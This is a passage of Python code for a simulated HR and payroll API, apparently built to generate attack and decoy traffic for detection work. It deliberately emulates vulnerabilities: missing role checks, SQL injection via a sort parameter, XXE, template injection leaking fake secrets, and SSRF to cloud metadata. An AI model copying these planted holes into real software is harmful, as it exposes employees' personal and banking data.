            b.update(dateOfBirth=e['dob'], nationalInsuranceNumber=e['ni'], annualSalary=e['salary'], homeAddress=e['addr'], bankAccountNumber=e['acct'], sortCode=e['sort'])
        return b

    @route('GET', A + '/directory')
    def directory(s, rq):
        q, p = rq.q.get('search', '').lower(), max(1, num(rq.q.get('page'), 1))
        n = max(1, min(num(rq.q.get('pageSize'), 25), 200))
        v = [s.emp[i] for i in s.ten[rq.tid]['emps'] if s.emp[i]['status'] == 'Active' and q in f'{s.emp[i]["first"]} {s.emp[i]["last"]}'.lower()]
        return Rs(200, {'items': [s.o_dir(e, rq.now) for e in v[n * p - n:n * p]], 'totalCount': len(v), 'page': p, 'pageSize': n}, lat=.015 + n * 2e-4)

    @route('GET', A + '/employees/{id}/photo')
    def photo(s, rq, i):
        e = s.emp.get(num(i))
        if not e or e['tid'] != rq.tid:
            return s.pd(404)
        tag = f'"{hashlib.md5(i.encode()).hexdigest()[:12]}"'
        h = {'ETag': tag, 'Cache-Control': 'private, max-age=3600'}
        return Rs(304, None, h, lat=.003) if rq.h.get('if-none-match') == tag else Rs(200, b'\xff\xd8\xff\xe0\0\x10JFIF' + random.Random(i).randbytes(700), h, ct='image/jpeg', lat=.006)

    def o_emp(s, e):
        return {'id': e['id'], 'employeeNo': e['no'], 'userId': e['uid'], 'firstName': e['first'], 'lastName': e['last'], 'email': e['email'], 'phone': e['phone'], 'jobTitle': e['title'], 'department': e['dept'], 'managerId': e['mgr'], 'startDate': e['start'], 'status': e['status'], 'annualSalary': e['salary'], 'dateOfBirth': e['dob'], 'nationalInsuranceNumber': e['ni'], 'taxCode': e['tax'], 'address': e['addr']}

    @route('GET', A + '/employees', auth=HR + '|' + ACC + '|' + SUP)
    def employees(s, rq):
        p, n = max(1, num(rq.q.get('page'), 1)), max(1, min(num(rq.q.get('pageSize'), 25), 100))
        v = [s.emp[i] for i in s.ten[rq.tid]['emps'] if rq.q.get('department', s.emp[i]['dept']) == s.emp[i]['dept']]
        return 200, {'items': [{k: x for k, x in s.o_emp(e).items() if k in ('id', 'employeeNo', 'firstName', 'lastName', 'email', 'jobTitle', 'department', 'status')} for e in v[n * p - n:n * p]], 'totalCount': len(v), 'page': p, 'pageSize': n}

    @route('GET', A + '/employees/{id}', auth=HR + '|' + ACC + '|' + SUP + '|' + MGR)
    def get_emp(s, rq, i):
        e = s.emp.get(num(i))
        if not i.isdigit():
            return Rs(404, None)
        return (200, s.o_emp(e)) if e and e['tid'] == rq.tid and (rq.u['role'] != MGR or e['mgr'] == rq.u['emp']) else s.pd(404)

    @route('POST', A + '/employees', auth=HR)
    def new_emp(s, rq):
        j, err = s.bind(rq, firstName=str, lastName=str, jobTitle=str, department=str)
        if err:
            return err
        e, u = s.employee(rq.tid, rq.now, EMP, (j['firstName'][:40], j['lastName'][:40]))
        e['title'], e['dept'] = j['jobTitle'][:40], j['department'][:40]
        return Rs(201, s.o_emp(e), {'Location': f'{A}/employees/{e["id"]}'}, lat=.1)

    @route('PATCH', A + '/employees/{id}', auth=HR)
    def patch_emp(s, rq, i):
        e = s.emp.get(num(i))
        if not e or e['tid'] != rq.tid:
            return s.pd(404)
        ops = rq.json
        if not isinstance(ops, list):
            return s.pd(400, errors={'patch': ['The patch document is malformed.']})
        for o in ops:
            k = {'/jobTitle': 'title', '/department': 'dept', '/annualSalary': 'salary', '/status': 'status', '/managerId': 'mgr', '/address': 'addr', '/taxCode': 'tax'}.get(o.get('path'))
            if not k or o.get('op') != 'replace':
                return s.pd(400, errors={'Employee': [f'The target location specified by path segment \'{str(o.get("path"))[1:]}\' was not found.']})
            e[k] = o.get('value')
        if e['status'] == 'Leaver':
            s.users[e['uid']]['active'] = False
        return 200, s.o_emp(e)

    @route('GET', A + '/users', auth=HR)
    def list_users(s, rq):
        return 200, [{'userId': s.emp[i]['uid'], 'email': s.emp[i]['email'], 'role': s.users[s.emp[i]['uid']]['role'], 'mfaEnabled': s.users[s.emp[i]['uid']]['mfa']} for i in s.ten[rq.tid]['emps'][:50]]

    @route('PUT', A + '/users/{id}/role')
    def set_role(s, rq, i):
        u = s.users.get(i)      # No policy on this action.
        j, err = s.bind(rq, role=str)
        if err or not u or u['tid'] != rq.tid:
            return err or s.pd(404)
        if j['role'] not in (EMP, MGR, HR):
            return s.pd(400, errors={'Role': [f"The value '{j['role']}' is not valid for Role."]})
        u['role'] = j['role']
        return 200, {'userId': i, 'email': u['email'], 'role': u['role']}

    @route('POST', A + '/users/{id}/reset-mfa', auth=HR + '|' + SUP)
    def reset_mfa(s, rq, i):
        return Rs(204) if i in s.users and s.users[i]['tid'] == rq.tid else s.pd(404)

    @route('GET', A + '/audit-log', auth=HR)
    def audit(s, rq):
        k = random.Random(f'{rq.tid}{int(rq.now / 3600)}')
        return 200, {'items': [{'id': uid(k), 'action': k.choice(['BankDetailsChanged', 'EmployeeUpdated', 'RoleChanged', 'ExportCreated']), 'actor': s.emp[k.choice(s.ten[rq.tid]['emps'])]['email'], 'at': s.iso(rq.now - 600 * n)} for n in range(20)], 'nextCursor': None}

    # --- payroll
    def o_run(s, x):
        return {'id': x['id'], 'period': x['period'], 'payDate': x['pay'], 'status': x['status'], 'employees': len(s.ten[x['tid']]['emps']), 'gross': round(sum(s.emp[i]['salary'] for i in s.ten[x['tid']]['emps']) / 12, 2), 'approvedBy': x['by']}

    def run(s, rq, i):
        x = s.runs.get(i)
        return x if x and x['tid'] == rq.tid else None

    @route('GET', A + '/payroll/runs', auth=HR + '|' + ACC, loose=True)
    def list_runs(s, rq):
        return 200, {'items': [s.o_run(x) for x in s.runs.values() if x['tid'] == rq.tid][::-1][:12]}

    @route('GET', A + '/payroll/runs/{id}', auth=HR + '|' + ACC, loose=True)
    def get_run(s, rq, i):
        x = s.run(rq, i)
        return (200, s.o_run(x)) if x else s.pd(404)

    @route('GET', A + '/payroll/runs/{id}/lines', auth=HR + '|' + ACC, loose=True)
    def lines(s, rq, i):
        x = s.run(rq, i)
        if not x:
            return s.pd(404)
        p, v = max(1, num(rq.q.get('page'), 1)), s.ten[x['tid']]['emps']
        return 200, {'items': [{'employeeId': i, 'name': f'{s.emp[i]["first"]} {s.emp[i]["last"]}', 'gross': round(s.emp[i]['salary'] / 12, 2), 'tax': round(s.emp[i]['salary'] / 66, 2), 'ni': round(s.emp[i]['salary'] / 150, 2), 'net': round(s.emp[i]['salary'] / 16, 2), 'taxCode': s.emp[i]['tax'], 'adjustment': x['adj'].get(i, 0)} for i in v[25 * p - 25:25 * p]], 'totalCount': len(v), 'page': p, 'pageSize': 25}

    @route('PUT', A + '/payroll/runs/{id}/lines/{eid}', auth=HR + '|' + ACC, loose=True)
    def put_line(s, rq, i, k):
        x = s.run(rq, i)
        if not x or num(k) not in s.ten[x['tid']]['emps']:
            return s.pd(404)
        if not isinstance(rq.json.get('adjustment'), (int, float)):
            return s.pd(400, errors={'Adjustment': ['The Adjustment field is required.']})
        x['adj'][num(k)] = rq.json['adjustment']
        return 200, {'employeeId': num(k), 'adjustment': rq.json['adjustment']}

    def step(s, rq, i, frm, to):
        x = s.run(rq, i)
        if not x:
            return s.pd(404)
        if x['status'] not in frm:
            return s.pd(409, f'The run is {x["status"]}.')
        x['status'] = to
        if to == 'Approved':
            x['by'] = rq.u['email']
        return Rs(200, s.o_run(x), lat=.4)

    @route('POST', A + '/payroll/runs/{id}/calculate', auth=HR + '|' + ACC, loose=True)
    def calc(s, rq, i):
        return s.step(rq, i, ('Draft', 'Calculated'), 'Calculated')

    @route('POST', A + '/payroll/runs/{id}/approve', auth=HR + '|' + ACC, loose=True)
    def approve(s, rq, i):
        return s.step(rq, i, ('Calculated',), 'Approved')

    @route('POST', A + '/payroll/runs/{id}/submit', auth=HR + '|' + ACC, loose=True)
    def submit(s, rq, i):
        return s.step(rq, i, ('Calculated', 'Approved'), 'Submitted')        # Approval is only asked for by the user interface.

    # --- exports, reports, imports
    @route('POST', A + '/exports', auth=HR + '|' + ACC)
    def new_export(s, rq):
        j, err = s.bind(rq, kind=str, format=(str,))
        if err:
            return err
        if j['kind'] not in ('employees', 'payroll', 'leave', 'bank', 'expenses'):
            return s.pd(400, errors={'Kind': [f"The value '{j['kind']}' is not valid for Kind."]})
        i = uid(s.rng)
        s.exports[i] = dict(tid=rq.tid, kind=j['kind'], dept=(j.get('filter') or {}).get('department') if isinstance(j.get('filter'), dict) else None, at=rq.now)
        return Rs(202, {'id': i, 'status': 'Queued'}, {'Location': f'{A}/exports/{i}'})

    @route('GET', A + '/exports/{id}', auth=HR + '|' + ACC)
    def get_export(s, rq, i):
        x = s.exports.get(i)
        return (200, {'id': i, 'status': 'Ready' if rq.now - x['at'] > 2.5 else 'Running', 'kind': x['kind'], 'downloadUrl': f'{A}/exports/{i}/file' if rq.now - x['at'] > 2.5 else None}) if x and x['tid'] == rq.tid else s.pd(404)

    @route('GET', A + '/exports/{id}/file', auth=HR + '|' + ACC)
    def export_file(s, rq, i):
        x = s.exports.get(i)
        if not x or x['tid'] != rq.tid:
            return s.pd(404)
        v = [s.emp[k] for k in s.ten[rq.tid]['emps'] if not x['dept'] or s.emp[k]['dept'] == x['dept']]
        return Rs(200, 'EmployeeNo,Name,Email,Salary,SortCode,Account,NI\r\n' + ''.join(f'{e["no"]},{e["first"]} {e["last"]},{e["email"]},{e["salary"]},{e["sort"]},{e["acct"]},{e["ni"]}\r\n' for e in v), {'Content-Disposition': f'attachment; filename="{x["kind"]}.csv"'}, ct='text/csv')

    @route('GET', A + '/reports/headcount', auth=MGR + '|' + HR + '|' + ACC)
    def headcount(s, rq):
        o = rq.q.get('sort', 'name')
        rows = sorted(Counter(s.emp[i]['dept'] for i in s.ten[rq.tid]['emps']).items())
        if o not in ('name', 'name desc', 'count', 'count desc', 'department', 'department desc'):
            w = re.search(r"waitfor\s+delay\s+'0:0:(\d)'", o, re.I)     # ORDER BY is put together from text.
            if w:
                return Rs(200, [{'department': d, 'count': n} for d, n in rows], lat=int(w.group(1)) + .03)
            if not re.fullmatch(r"\(?(case when|select|iif).*\)?", o, re.I | re.S) or o.count('(') != o.count(')') or '--' in o:
                return s.pd(500, lat=.03)
            if re.search(r"=\s*'?[a-m]", o):
                rows.reverse()
        elif 'desc' in o:
            rows.reverse()
        return 200, [{'department': d, 'count': n} for d, n in rows]

    def odata(s, rq, deep):
        q = rq.q
        sel = [x for x in q.get('$select', '').split(',') if x]
        top, skip = num(q.get('$top'), 50), num(q.get('$skip'))
        exp = q.get('$expand', '')
        bad = [x for x in sel if x not in FIELDS and x not in HIDDEN]
        err = lambda m: Rs(400, {'error': {'code': '', 'message': f'The query specified in the URI is not valid. {m}'}}, ct='application/json; odata.metadata=minimal; odata.streaming=true')
        if bad:
            return err(f"Could not find a property named '{bad[0]}' on type 'Paynest.Employee'.")
        if [x for x in sel if x in HIDDEN] and rq.u['role'] not in (HR, ACC):
            return Rs(403, None)
        v = [s.emp[i] for i in s.ten[rq.tid]['emps']]
        f = q.get('$filter', '')
        for cl in [x for x in f.split(' and ') if x]:
            m = re.fullmatch(r"(\w+) (eq|ne|gt|ge|lt|le) ('?)([^']*)\3", cl) or re.fullmatch(r"(startswith|contains)\((\w+),'((?:[^']|'')*)'\)", cl)
            if not m:
                return err(f"Syntax error at position {len(cl) // 2} in '{cl[:60]}'.")
            g = m.groups()
            k, op, val = (g[1], g[0], g[2]) if g[0] in ('startswith', 'contains') else (g[0], g[1], g[3])
            key = {'Id': 'id', 'FirstName': 'first', 'LastName': 'last', 'Email': 'email', 'JobTitle': 'title', 'Department': 'dept', 'StartDate': 'start', 'ManagerId': 'mgr', 'Status': 'status', **HIDDEN}.get(k)
            if not key:
                return err(f"Could not find a property named '{k}' on type 'Paynest.Employee'.")
            t = {'eq': lambda x: str(x) == val, 'ne': lambda x: str(x) != val, 'startswith': lambda x: str(x).startswith(val), 'contains': lambda x: val in str(x)}.get(op) or (lambda x: (x is not None) and {'gt': x > num(val) if isinstance(x, int) else str(x) > val, 'ge': x >= num(val) if isinstance(x, int) else str(x) >= val, 'lt': x < num(val) if isinstance(x, int) else str(x) < val, 'le': x <= num(val) if isinstance(x, int) else str(x) <= val}[op])
            v = [e for e in v if t(e[key])]
        lat = .03 + len(v) * 2e-4
        out = []
        for e in v[skip:skip + max(0, min(top, 200))]:
            b = {'Id': e['id'], 'FirstName': e['first'], 'LastName': e['last'], 'Email': e['email'], 'JobTitle': e['title'], 'Department': e['dept'], 'StartDate': e['start'], 'ManagerId': e['mgr'], 'Status': e['status'], 'Fte': 1.0, 'NationalInsuranceNumber': e['ni'], 'AnnualSalary': e['salary'], 'DateOfBirth': e['dob']}
            b = {k: x for k, x in b.items() if (k in sel if sel else k in FIELDS)}
            if exp.startswith('User'):
                u = s.users[e['uid']]
                b['User'] = {'Id': u['id'], 'UserName': u['email'], 'Role': u['role'], 'PasswordHash': 'AQAAAAIAAYagAAAAE' + hashlib.sha256(u['pw'].encode()).hexdigest(), 'SecurityStamp': hashlib.md5(u['id'].encode()).hexdigest().upper(), 'TwoFactorEnabled': u['mfa']}
            elif exp.startswith('Manager'):
                m = s.emp.get(e['mgr'])
                b['Manager'] = m and {'Id': m['id'], 'FirstName': m['first'], 'LastName': m['last']}
                d = exp.count('Reports')
                lat += .006 * d ** 2
                if d and m:
                    b['Manager']['Reports'] = [{'Id': i, 'FirstName': s.emp[i]['first'], 'LastName': s.emp[i]['last']} for i in s.ten[rq.tid]['emps'] if s.emp[i]['mgr'] == m['id']]
            out.append(b)
        if exp and not exp.startswith(('User', 'Manager', 'Documents')):
            return err(f"Could not find a property named '{exp[:30]}' on type 'Paynest.Employee'.")
        return Rs(200, {'@odata.context': f'https://{HOST}/odata/$metadata#Employees', **({'@odata.count': len(v)} if q.get('$count') == 'true' else {}), 'value': out}, {'OData-Version': '4.0'}, ct='application/json; odata.metadata=minimal; odata.streaming=true', lat=lat)

    @route('GET', '/odata/Employees', auth=MGR + '|' + HR + '|' + ACC)
    def od_emp(s, rq):
        return s.odata(rq, 0)

    @route('GET', '/odata/$metadata', auth=MGR + '|' + HR + '|' + ACC)
    def od_meta(s, rq):
        return Rs(200, '<?xml version="1.0" encoding="utf-8"?><edmx:Edmx Version="4.0"><EntityType Name="Employee"><Key><PropertyRef Name="Id"/></Key>' + ''.join(f'<Property Name="{k}" Type="Edm.String"/>' for k in sorted(FIELDS | set(HIDDEN))) + '<NavigationProperty Name="Manager"/><NavigationProperty Name="User"/></EntityType></edmx:Edmx>', ct='application/xml')

    @route('POST', A + '/imports/employees', auth=HR + '|' + ACC, raw=True)
    def imp(s, rq):
        n = (rq.body or b'').count(b'\r\n') - 6
        return Rs(200, {'rows': max(0, n), 'imported': max(0, n), 'errors': []}, lat=.5)

    @route('POST', A + '/imports/statements', auth=HR + '|' + ACC, raw=True)
    def imp_xml(s, rq):
        b = (rq.body or b'').decode('utf-8', 'replace')
        if 'xml' not in rq.h.get('content-type', ''):
            return s.pd(415)
        m = re.search(r'<!ENTITY\s+%?\s*\w+\s+SYSTEM\s+"([^"]+)"', b)
        if m:
            if m.group(1).startswith('file:') and 'win.ini' in m.group(1):
                return 200, {'messageId': '; for 16-bit app support\n[fonts]\n[extensions]\n', 'entries': 0}
            return s.pd(500, lat=1.2)
        return 200, {'messageId': (re.search('<MsgId>([^<]*)', b) or [0, None])[1], 'entries': b.count('<Ntry>')}

    @route('POST', A + '/letters/preview', auth=HR)
    def letter(s, rq):
        j, err = s.bind(rq, employeeId=int, body=str)
        if err:
            return err
        e = s.emp.get(j['employeeId'])
        if not e or e['tid'] != rq.tid:
            return s.pd(404)
        b = j['body'].replace('@Model.FirstName', e['first']).replace('@Model.LastName', e['last']).replace('@Model.StartDate', e['start'])
        b = re.sub(r'@\((\d+)\*(\d+)\)', lambda m: str(int(m[1]) * int(m[2])), b)
        if '@System.' in b or '@{' in b:
            if 'Environment' in b:
                b = 'ASPNETCORE_ENVIRONMENT=Production;ConnectionStrings__Main=Server=tcp:sql-prod.internal,1433;User ID=pn_app;Password=n0t-r3al-Passw0rd'
            elif 'ReadAllText' in b:
                b = '{"Logging":{"LogLevel":{"Default":"Warning"}},"Jwt":{"Key":"********"}}'
            else:
                return s.pd(500, lat=.8)
        return Rs(200, {'html': f'<article><p>{b}</p></article>'}, lat=.15 if '@' not in j['body'] else .3)

    # --- hooks, logo
    @route('GET', A + '/webhooks', auth=HR)
    def hooks_(s, rq):
        return 200, [{'id': i, 'url': h['url'], 'events': h['events']} for i, h in s.hooks.items() if h['tid'] == rq.tid]

    @route('POST', A + '/webhooks', auth=HR)
    def new_hook(s, rq):
        j, err = s.bind(rq, url=str, events=list)
        if err:
            return err
        if not re.match(r'https?://', j['url']):
            return s.pd(400, errors={'Url': ['The Url field is not a valid fully-qualified http or https URL.']})
        i = uid(s.rng)
        s.hooks[i] = dict(url=j['url'], events=j['events'], tid=rq.tid)
        return 201, {'id': i, 'url': j['url'], 'events': j['events'], 'secret': 'whsec_' + s.rng.randbytes(16).hex()}

    @route('POST', A + '/webhooks/{id}/test', auth=HR)
    def test_hook(s, rq, i):
        h = s.hooks.get(i)
        if not h or h['tid'] != rq.tid:
            return s.pd(404)
        u = urlsplit(h['url'])
        st, b, lat = 200, 'ok', .2
        if u.hostname == '169.254.169.254':
            b, st = ('{"compute":{"azEnvironment":"AzurePublicCloud","name":"pn-api-01","subscriptionId":"00000000-example"}}', 200) if 'api-version' in u.query else ('{"error":"Bad request. api-version was not specified in the request"}', 400)
        elif u.hostname in ('localhost', '127.0.0.1', '10.40.1.10'):
            b, st = ('Healthy', 200) if u.port == 8080 else ('', 0)
        elif str(u.hostname).endswith('.internal'):
            b, st, lat = '', 0, 10.01
        return Rs(200, {'delivered': st == 200, 'statusCode': st or None, 'responseBody': b[:300], 'durationMs': int(lat * 1000)}, lat=lat + s.rng.random() * .1)

    @route('POST', A + '/company/logo/import', auth=HR)
    def logo(s, rq):
        j, err = s.bind(rq, url=str)
        if err:
            return err
        u = urlsplit(j['url']) if re.match(r'https?://', j['url']) else None
        if not u or not u.hostname:
            return s.pd(400, errors={'Url': ['The Url field is not a valid fully-qualified http or https URL.']})
        if u.hostname in ('localhost', '127.0.0.1', '169.254.169.254'):
            return s.pd(400, errors={'Url': ['This host is not allowed.']})
        if re.search(r'\.(png|jpe?g|svg)$', u.path):
            return Rs(200, {'logoUrl': f'/public/v1/companies/{s.ten[rq.tid]["slug"]}/logo', 'width': 320}, lat=.3)
        open_ = u.port in (None, 80, 443, 8080, 1433)
        return s.pd(422, 'The file is not an image.' if open_ else 'The file could not be fetched.', lat=.06 if open_ else 3.02)

    # --- shifts
    @route('GET', A + '/shifts/open')
    def open_shifts(s, rq):
        return 200, {'items': [{'id': i, 'day': x['day'], 'hours': x['h'], 'rate': x['rate'], 'site': x['site']} for i, x in s.shifts.items() if x['tid'] == rq.tid and not x['by'] and x['at'] <= rq.now][:20]}

    @route('POST', A + '/shifts/{id}/claim')
    def take(s, rq, i):
        x = s.shifts.get(num(i))
        if not x or x['tid'] != rq.tid or x['at'] > rq.now:
            return s.pd(404)
        if x['by']:
            return s.pd(409, 'The shift has been taken.')
        x['by'] = rq.u['emp']
        return 200, {'id': num(i), 'status': 'Confirmed'}

    @route('POST', A + '/timeclock/punches')
    def punch(s, rq):
        j, err = s.bind(rq, direction=str)
        return err or (201, {'id': uid(s.rng), 'direction': j['direction'], 'at': s.iso(rq.now)})

    # --- partners
    def company(s, rq, i):
        return i if i in rq.partner['tids'] else None

    @route('GET', '/partner/v2/companies', auth='partner')
    def p_comp(s, rq):
        return 200, {'data': [{'id': t, 'name': s.ten[t]['name'], 'employeeCount': len(s.ten[t]['emps'])} for t in rq.partner['tids']]}

    @route('GET', '/partner/v2/companies/{id}/employees', auth='partner')
    def p_emps(s, rq, i):
        if not s.company(rq, i):
            return s.pd(404)
        v, o, n = s.ten[i]['emps'], num(rq.q.get('offset')), max(1, min(num(rq.q.get('limit'), 50), 100))
        if rq.q.get('updatedSince'):
            v = random.Random(rq.query + i).sample(v, min(len(v), random.Random(rq.query).randint(0, 4)))
        return 200, {'data': [{'id': k, 'firstName': s.emp[k]['first'], 'lastName': s.emp[k]['last'], 'status': s.emp[k]['status']} for k in v[o:o + n]], 'total': len(v), 'offset': o, 'limit': n}

    @route('GET', '/partner/v2/employees/{id}', auth='partner')
    def p_emp(s, rq, i):
        e = s.emp.get(num(i))
        return (200, {'id': e['id'], 'firstName': e['first'], 'lastName': e['last'], 'email': e['email'], 'dateOfBirth': e['dob'], 'nationalInsuranceNumber': e['ni'], 'annualSalary': e['salary'], 'address': e['addr'], 'startDate': e['start']}) if e and e['tid'] in rq.partner['tids'] else s.pd(404)

    @route('POST', '/partner/v2/contributions', auth='partner')
    def p_contrib(s, rq):
        v = rq.json.get('items') if isinstance(rq.json, dict) else None
        if not isinstance(v, list) or not v:
            return s.pd(400, errors={'Items': ['The Items field is required.']})
        return 202, {'accepted': len(v), 'batchId': uid(s.rng)}

    @route('POST', '/partner/v2/timesheets', auth='partner')
    def p_times(s, rq):
        v = rq.json.get('entries') if isinstance(rq.json, dict) else None
        if not isinstance(v, list) or not v:
            return s.pd(400, errors={'Entries': ['The Entries field is required.']})
        return 202, {'accepted': len(v), 'batchId': uid(s.rng)}

    # --- SCIM
    def o_scim(s, u):
        n = u['name'].split(' ')
        return {'schemas': ['urn:ietf:params:scim:schemas:core:2.0:User'], 'id': u['id'], 'userName': u['email'], 'name': {'givenName': n[0], 'familyName': n[-1]}, 'active': u['active'], 'emails': [{'value': u['email'], 'primary': True, 'type': 'work'}], 'roles': [{'value': u['role']}], 'meta': {'resourceType': 'User', 'location': f'https://{HOST}/scim/v2/Users/{u["id"]}'}}

    @route('GET', '/scim/v2/Users', auth='scim')
    def scim_list(s, rq):
        v = [u for u in s.users.values() if u['tid'] == rq.tid]
        m = re.fullmatch(r'userName eq "([^"]*)"', rq.q.get('filter', ''))
        if m:
            v = [u for u in v if u['email'] == m[1]]
        a, n = max(1, num(rq.q.get('startIndex'), 1)), max(0, min(num(rq.q.get('count'), 100), 100))
        return Rs(200, {'schemas': ['urn:ietf:params:scim:api:messages:2.0:ListResponse'], 'totalResults': len(v), 'startIndex': a, 'itemsPerPage': len(v[a - 1:a - 1 + n]), 'Resources': [s.o_scim(u) for u in v[a - 1:a - 1 + n]]}, ct='application/scim+json')

    @route('POST', '/scim/v2/Users', auth='scim')
    def scim_new(s, rq):
        j = rq.json
        m = str(j.get('userName', '')).lower()
        if m in s.bymail:
            return Rs(409, {'schemas': ['urn:ietf:params:scim:api:messages:2.0:Error'], 'scimType': 'uniqueness', 'detail': 'User already exists.', 'status': '409'}, ct='application/scim+json')
        n = j.get('name') or {}
        e, u = s.employee(rq.tid, rq.now, EMP, (str(n.get('givenName', 'New'))[:40], str(n.get('familyName', 'User'))[:40]))
        s.bymail.pop(u['email'], None)
        u['email'] = e['email'] = m
        s.bymail[m] = u
        rl = (j.get('roles') or [{}])[0].get('value')
        u['role'] = rl if rl in (EMP, MGR, HR) else EMP
        return Rs(201, s.o_scim(u), ct='application/scim+json', lat=.06)

    @route('GET', '/scim/v2/Users/{id}', auth='scim')
    def scim_get(s, rq, i):
        u = s.users.get(i)
        return Rs(200, s.o_scim(u), ct='application/scim+json') if u and u['tid'] == rq.tid else Rs(404, {'schemas': ['urn:ietf:params:scim:api:messages:2.0:Error'], 'detail': f'Resource {i} not found.', 'status': '404'}, ct='application/scim+json')

    @route('PATCH', '/scim/v2/Users/{id}', auth='scim')
    def scim_patch(s, rq, i):
        u = s.users.get(i)
        if not u or u['tid'] != rq.tid:
            return s.scim_get(rq, i)
        for o in rq.json.get('Operations', []) if isinstance(rq.json, dict) else []:
            v = o.get('value')
            v = v if isinstance(v, dict) else {o.get('path'): v}
            if 'active' in v:
                u['active'] = v['active'] in (True, 'True')
            if 'userName' in v:
                s.bymail.pop(u['email'], None)
                u['email'] = str(v['userName']).lower()
                s.bymail[u['email']] = u
        return Rs(200, s.o_scim(u), ct='application/scim+json', lat=.05)

    # --- public
    @route('GET', '/public/v1/companies/{slug}/vacancies', auth='none')
    def vacs(s, rq, g):
        v = [i for i, x in s.vac.items() if x['slug'] == g]
        return 200, {'items': [{'id': i, 'title': s.vac[i]['title'], 'location': s.vac[i]['loc']} for i in v], 'totalCount': len(v)}

    @route('GET', '/public/v1/vacancies/{id}', auth='none')
    def vacancy(s, rq, i):
        x = s.vac.get(num(i))
        return (200, {'id': num(i), 'company': x['slug'], 'title': x['title'], 'location': x['loc'], 'salaryFrom': x['pay'], 'salaryTo': x['pay'] + 6000, 'recruiter': {'name': x['who'], 'email': x['mail']}, 'description': 'We are looking for a ' + x['title'] + '. ' * 3 + 'You bring care, curiosity and a head for detail. ' * 4}) if x else s.pd(404)

    @route('POST', '/public/v1/vacancies/{id}/applications', auth='none')
    def apply(s, rq, i):
        j, err = s.bind(rq, name=str, email=str)
        return err or (s.pd(404) if num(i) not in s.vac else (201, {'id': uid(s.rng), 'status': 'Received'}))

    @route('POST', '/public/v1/trials', auth='none')
    def trial(s, rq):
        j, err = s.bind(rq, companyName=str, email=str, referralCode=(str,))
        if err:
            return err
        i = uid(s.rng)
        s.trials[i] = f'{s.rng.randint(0, 999999):06}'
        return 201, {'trialId': i, 'status': 'VerificationSent', 'referralCredit': 50 if j.get('referralCode') else 0}

    @route('POST', '/public/v1/trials/{id}/verify', auth='none')
    def trial_ok(s, rq, i):
        if s.trials.get(i) is None or s.trials[i] != rq.json.get('code'):
            return s.pd(400, errors={'Code': ['The code is not valid.']})
        return 200, {'trialId': i, 'status': 'Active', 'tenantId': uid(s.rng)}

    # --- operations and the inside
    @route('GET', '/health/live', auth='none')
    def live(s, rq):
        return Rs(200, 'Healthy', {'Cache-Control': 'no-store, no-cache'}, ct='text/plain', lat=.002)

    @route('GET', '/health/ready', auth='none')
    def ready(s, rq):
        return Rs(200, 'Healthy', {'Cache-Control': 'no-store, no-cache'}, ct='text/plain', lat=.008)

    @route('GET', '/internal/etl/employees', auth='internal')
    def etl(s, rq):
        o = num(rq.q.get('after'))
        v = [k for k in s.emp if k > o][:100]
        return 200, {'rows': [{'Id': k, 'TenantId': s.emp[k]['tid'], 'Email': s.emp[k]['email'], 'Salary': s.emp[k]['salary'], 'Ni': s.emp[k]['ni'], 'SortCode': s.emp[k]['sort'], 'Account': s.emp[k]['acct']} for k in v], 'last': v[-1] if v else None}

    @route('GET', '/internal/bacs/{run}/file', auth='internal')
    def bacs(s, rq, i):
        x = s.runs.get(i)
        return Rs(200, 'VOL1' + ' ' * 40 + '\r\n' + ''.join(f'{s.emp[k]["sort"].replace("-", "")}{s.emp[k]["acct"]}099{int(s.emp[k]["salary"] / 16 * 100):011}{s.emp[k]["last"].upper():18}\r\n' for k in s.ten[x['tid']]['emps']), ct='text/plain') if x else Rs(404, None)

    @route('GET', '/internal/runs/due', auth='internal')
    def due(s, rq):
        return 200, [{'id': x['id'], 'tenantId': x['tid'], 'status': x['status']} for x in s.runs.values() if x['period'] == '2026-05']

    @route('POST', '/internal/documents/bulk', auth='internal')
    def bulkdoc(s, rq):
        x = s.runs.get(str(rq.json.get('runId')))
        if not x:
            return Rs(404, None)
        return Rs(201, {'created': [s.doc(s.emp[k], 'Payslip', 'Payslip-2026-05.pdf', rq.now) for k in s.ten[x['tid']]['emps'] if s.emp[k]['status'] == 'Active']}, lat=1.1)

    @route('POST', '/internal/webhooks/dispatch', auth='internal')
    def disp(s, rq):
        return 202, {'queued': s.rng.randint(0, 6)}

    @route('POST', '/callbacks/hmrc/rti', auth='internal', raw=True)
    def hmrc(s, rq):
        return Rs(200, '<IRmarkReceipt>ok</IRmarkReceipt>', ct='application/xml')

    @route('GET', '/hangfire/jobs/{state}', auth='internal')
    def jobs(s, rq, x):
        us = s.rng.sample(list(s.users.values()), 10)
        return Rs(200, '<!DOCTYPE html><html><head><title>Jobs - Hangfire Dashboard</title></head><body><table>' + ''.join(f'<tr><td>#{s.rng.randint(10000, 99999)}</td><td>MailJob.SendReset("{u["email"]}", "{s.rng.randbytes(20).hex()}")</td></tr>' for u in us) + '</table></body></html>', ct='text/html') if x in ('succeeded', 'processing', 'failed') else Rs(404, None)

    @route('GET', '/hangfire', auth='internal')
    def hang(s, rq):
        return Rs(200, '<!DOCTYPE html><html><head><title>Overview - Hangfire Dashboard</title></head><body>Succeeded 88,412 Failed 31</body></html>', ct='text/html')

    @route('GET', A + '/_preview/payslip-data', auth='internal')
    def preview(s, rq):
        if not s.attacks or rq.now < s.shadow:
            return Rs(404, None)
        return 200, [{'employeeId': e['id'], 'name': f'{e["first"]} {e["last"]}', 'net': round(e['salary'] / 16, 2), 'account': e['acct']} for e in s.rng.sample(list(s.emp.values()), 20)]


DECOYS = {
    'office': 'corporate_nat: the staff of the two largest companies behind one office address each', 'carrier': 'carrier_nat: phones behind three carrier addresses', 'probe': 'monitor_probe: load balancer health checks from inside', 'uptime': 'monitor_probe: an outside uptime service asks for the readiness page and a careers page',
    'night': 'nightly_batch: warehouse extract of all employees from inside every night', 'payrun': 'payroll_worker: from inside, BACS files and payslips of all companies on pay day', 'payday': 'payday_peak: payslips are published on day 10, most people open theirs within a day', 'holiday': 'bank_holiday: day 7, the few people who come at all come by phone',
    'release': 'new_app_version: from day 5 phones change to a new version', 'feature': 'documented_new_endpoint: the new version shows the team calendar', 'outage': 'outage_retry_storm: 503 for 35 minutes on day 2, apps try again', 'acct': 'accountants: five people work in several companies each by X-Tenant-Id',
    'yearend': 'bulk_download: an accountant downloads the payslips of a whole client one after the other for an audit', 'hr': 'hr_reads_many: HR administrators read many employees', 'support': 'support_desk: staff of the vendor look into the companies of callers', 'forget': 'forgetful_user: some people mistype passwords, get locked out, and reset',
